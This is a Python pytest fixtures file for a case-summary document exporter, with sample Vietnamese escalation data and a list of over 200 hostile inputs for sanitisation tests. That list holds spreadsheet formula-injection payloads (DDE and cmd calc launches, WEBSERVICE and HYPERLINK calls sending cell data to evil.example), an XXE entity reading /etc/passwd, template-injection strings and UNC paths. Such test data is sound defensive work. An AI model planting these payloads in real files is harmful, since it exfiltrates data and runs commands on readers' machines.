"""What every test of documents needs: a moment, a zone, and two hundred texts that mean harm."""

from __future__ import annotations

import signal
import struct
import zlib
from datetime import UTC, datetime
from decimal import Decimal
from itertools import product
from typing import TYPE_CHECKING
from zoneinfo import ZoneInfo

import pytest

from escalation_desk.casework.choices import CaseStatus, Channel, PartyKind, Priority, RiskFlag, Severity
from escalation_desk.documents.case_summary import (
    CaseSummary,
    Decision,
    EvidenceLine,
    Goods,
    Happening,
    Head,
    Impact,
    Issue,
    PartyLine,
    PromiseLine,
    PublicMessage,
    Statement,
    Step,
    ThreeLines,
)
from escalation_desk.documents.pictures import Picture
from escalation_desk.documents.words import Money

if TYPE_CHECKING:
    from collections.abc import Iterator

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "'=",
    '"=',
    ";=",
    ",=",
    "\x00=",
    "\u202e=",
)
_FORMULAS = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    'DDE("cmd";"/c calc";"1")',
    'WEBSERVICE("http://evil.example/"&A2)',
    "SUM(1;2)*cmd|' /C notepad'!'A1'",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "A1:XFD1048576",
    "\\\\evil.example\\share\\x.xlsx",
)
_WHOLE = (
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    '{ DDEAUTO cmd "/k calc" }',
    "{{case.title}}",
    "{{#rows}}{{/rows}}",
    "{{image:rows.picture}}",
    "{% for x in ''.__class__.__mro__ %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText></w:r><w:r><w:t>',
    "]]><f>1+1</f><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&amp;&lt;&#x0;&#0;&quot;",
    "<script>alert(1)</script>",
    '" onload="x" w:anchor="y',
    "file://///evil.example/share",
    "\\\\evil.example\\share\\a.png",
    "mailto:a@b.com?subject=x",
    "http://evil.example/#anchor",
    "#REF!",
    "#N/A",
    "TRUE",
    "00123",
    "12345678901234567890",
    "1E5",
    "2026-11-24",
    "_x0041_",
    "_x000D_",
    "a\x00b\x01c\x08d\x0be\x0cf\x1fg\x7fh\x9fi",
    "\ud800 alone",
    "pair reversed \udc00\ud800",
    "\ufffe\uffff",
    "\ue0000\ue001",
    "\u202egnp.exe",
    "\u200b\u2060\ufeff",
    "e\u0302\u0303 nho\u031b\u0300",
    "한국어 \u1112\u1161\u11ab",
    "👩‍👩‍👧‍👦 🇻🇳",
    "a\r\nb\rc\nd",
    "  leading and trailing  ",
    "",
)


@pytest.fixture(scope="session")
def hostile() -> list[str]:
    texts = [start + formula for start, formula in product(_STARTS, _FORMULAS)] + list(_WHOLE)
    assert len(texts) >= 200
    return texts


@pytest.fixture(scope="session")
def zone() -> ZoneInfo:
    return ZoneInfo("Asia/Ho_Chi_Minh")


@pytest.fixture(scope="session")
def as_of() -> datetime:
    return datetime(2026, 11, 24, 7, 30, tzinfo=UTC)


@pytest.fixture
def small_disk() -> Iterator[None]:
    """Let no file grow over 64 KiB, as a disk does that is nearly full."""
    resource = pytest.importorskip("resource", reason="limits of POSIX")
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    ignored = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (65_536, before[1]))
    yield
    resource.setrlimit(resource.RLIMIT_FSIZE, before)
    signal.signal(signal.SIGXFSZ, ignored)


@pytest.fixture(scope="session")
def png() -> bytes:
    """Draw a picture of 1200 × 600: a screenshot, as far as a document is concerned."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    rows = b"".join(b"\0" + bytes((x // 5 + y // 3) % 256 for x in range(1200)) for y in range(600))
    head = struct.pack(">IIBBBBB", 1200, 600, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


@pytest.fixture
def issue(as_of: datetime, zone: ZoneInfo) -> Issue:
    return Issue(
        organisation="Chợ Lớn Marketplace",
        desk="Tier 2 Escalation",
        number="CS-2026-00412",
        as_of=as_of,
        zone=zone,
        sync_state="local, 12 changes not sent",
        by="Trần Minh Khoa",
    )


@pytest.fixture
def summary(png: bytes) -> CaseSummary:
    """Tell of one case with something in most sections, and nothing yet in root cause and outcome."""
    day = datetime(2026, 11, 20, 2, 14, tzinfo=UTC)
    shot = Picture("đối soát.png", lambda: png)
    return CaseSummary(
        head=Head(
            number="VN7-000123",
            title="Tiền đối soát của chị Nguyễn Thị Hà bị giữ",
            status=CaseStatus.PENDING_INTERNAL,
            priority=Priority.P1,
            severity=Severity.S2,
            risk_flags=(RiskFlag.MONEY, RiskFlag.VIP),
            owner="Trần Minh Khoa",
            tickets=("CRM-1", "ZD-2"),
            received=day,
        ),
        three_lines=ThreeLines(happened="63 đơn bị giữ.", means="Hết tiền nhập hàng.", stands="Chờ IPR."),
        decision=Decision(what="Giải ngân 70 %", options=("ngay", "chờ")),
        parties=(
            PartyLine(
                role=PartyKind.SELLER,
                name="Nguyễn Thị Hà",
                contacts=("0912345612", "nguyenthiha@gmail.com"),
            ),
        ),
        goods=Goods(orders=("0012", "0013"), account="0071000123456789", amount=Money(Decimal(184350000), "VND")),
        impact=Impact(reason=("Thanh toán", "Giữ tiền"), affected=63),
        statement=Statement(words="Gọi tôi: 0912 345 612\nHà"),
        tried=(Step(at=day, who="Lê Văn Tú", what="Xem cờ", result="Không có quyền"),),
        timeline=(
            Happening(
                at=day, who="Trần Minh Khoa", channel=Channel.PHONE, what="Gọi chị Nguyễn Thị Hà", pictures=(shot,)
            ),
            Happening(at=day, who="Trần Minh Khoa", what="Bí mật nội bộ", internal=True),
            Happening(at=day, who="hệ thống", what="priority P2 → P1", automatic=True),
        ),
        promises=(PromiseLine(to_whom="Nguyễn Thị Hà", what="Cập nhật", due=day, state="kept"),),
        messages=(
            PublicMessage(at=day, who="Trần Minh Khoa", channel=Channel.EMAIL, text="Kính gửi chị,\n\nTrân trọng"),
        ),
        evidence=(EvidenceLine(name="đối soát.png", at=day, sha256="a3f5c2d19b07", picture=shot),),
    )
